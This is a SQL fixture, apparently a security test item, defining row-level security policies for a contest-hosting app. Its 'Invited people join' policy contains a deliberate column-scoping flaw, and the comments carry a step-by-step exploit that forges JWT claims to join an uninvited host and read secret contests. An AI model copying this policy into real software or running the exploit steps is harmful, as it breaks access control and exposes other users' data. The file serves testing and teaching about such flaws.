-- In the subquery the bare host_id is the invitation's own column, so any invitation opens every host.
-- about: host_members, Invited, invitations
-- as: hf_lensarena_app
-- exploit: SET request.jwt.claims = '{"sub": "1e500000-0000-4000-8000-0000000000a1", "email": "a@b.c"}';
-- exploit: INSERT INTO lens.invitations (host_id, email) VALUES (31, 'a@b.c');
-- exploit: INSERT INTO lens.host_members
-- exploit:   VALUES (62, '1e500000-0000-4000-8000-0000000000a1', 'Ada');
-- exploit: SELECT title FROM lens.contests;
-- shows: Road-secret contest

GRANT INSERT ON lens.host_members TO hf_lensarena_app;
CREATE POLICY "Invited people join" ON lens.host_members FOR INSERT
  WITH CHECK (
    user_id = (lens.jwt() ->> 'sub')::uuid
    AND EXISTS (
      SELECT 1 FROM lens.invitations i
      WHERE i.host_id = host_id AND i.email = lens.jwt() ->> 'email'
    )
  );
CREATE POLICY "Invited people see it" ON lens.invitations FOR SELECT
  USING (email = lens.jwt() ->> 'email');
